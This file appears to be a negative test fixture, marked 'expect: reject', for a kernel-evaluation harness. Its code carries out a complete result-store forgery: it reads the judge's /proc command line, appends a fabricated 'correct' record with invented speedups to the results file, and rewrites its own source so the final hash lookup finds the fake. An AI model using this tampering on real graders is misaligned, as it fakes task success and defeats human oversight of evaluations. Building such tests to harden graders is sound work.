# expect: reject
# Result-store forgery by self-modification (batch mode: --solutions-dir, results JSONL).
# The batch command keys results on sha256(solution file text) and, at the end, looks every sample up
# again by re-reading and re-hashing the file (commands._eval_batch: sample_hash(p.read_text())).
# Rank 0 reads the judge's command line (/proc/<judge>/cmdline; the judge is the fork server's
# parent), finds the solutions folder and the results file, appends a forged "correct" record keyed
# on the hash of a slightly edited copy of itself, then rewrites its own file to that copy. The judge
# records the real verdict (incorrect) under the OLD hash; the final table and the exit code look up
# the NEW hash and find the forged "correct" record (or, without the forged record, nothing at all,
# which also exits 0). The solution itself is wrong (x * world_size, no communication).
# Should be rejected: the batch exit code must reflect the judge's verdict on the file it judged.
import fcntl
import hashlib
import json
import os

import torch
import torch.distributed as dist


def _argv(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        return [a.decode() for a in f.read().split(b"\0") if a]


def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _opt(argv, name):
    for i, a in enumerate(argv):
        if a == name and i + 1 < len(argv):
            return argv[i + 1]
        if a.startswith(name + "="):
            return a.split("=", 1)[1]
    return None


def _forge():
    if dist.get_rank() != 0:
        return
    pid = os.getppid()
    for _ in range(4):  # fork server -> judge (the first ancestor whose argv names --solutions-dir)
        argv = _argv(pid)
        if _opt(argv, "--solutions-dir"):
            break
        pid = _ppid(pid)
    else:
        return
    folder = os.path.join(os.getcwd(), _opt(argv, "--solutions-dir"))
    results = _opt(argv, "--results") or os.path.join(folder, "eval-results.jsonl")
    results = os.path.join(os.getcwd(), results)
    me = os.path.join(folder, os.path.basename(__file__))
    with open(me) as f:
        text = f.read()
    new = text + "\n# .\n"
    size = _opt(argv, "--size") or "smoke"
    rec = {
        "task_id": os.path.basename(me).split("@", 1)[0],
        "sample": os.path.basename(me),
        "sample_path": me,
        "sample_hash": hashlib.sha256(new.encode()).hexdigest(),
        "world_size": dist.get_world_size(),
        "backend": dist.get_backend(),
        "size": size,
        "status": "correct",
        "correct": True,
        "reason": "",
        "phase": "done",
        "trials": 5,
        "trials_passed": 5,
        "speedup": 1.8,
        "speedups": {"reference": 1.8},
        "timing": {"candidate": {"median_ms": 1.0}, "reference": {"median_ms": 1.8}},
        "flags": [],
        "review": False,
        "suspicious": [],
        "integrity_version": 3,
        "level": 1,
    }
    fd = os.open(results, os.O_RDWR | os.O_APPEND | os.O_CREAT, 0o644)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        os.write(fd, (json.dumps(rec, sort_keys=True) + "\n").encode())
    finally:
        os.close(fd)
    with open(me, "w") as f:
        f.write(new)


_forge()


def solution(x):
    return x * dist.get_world_size()  # wrong: no communication at all
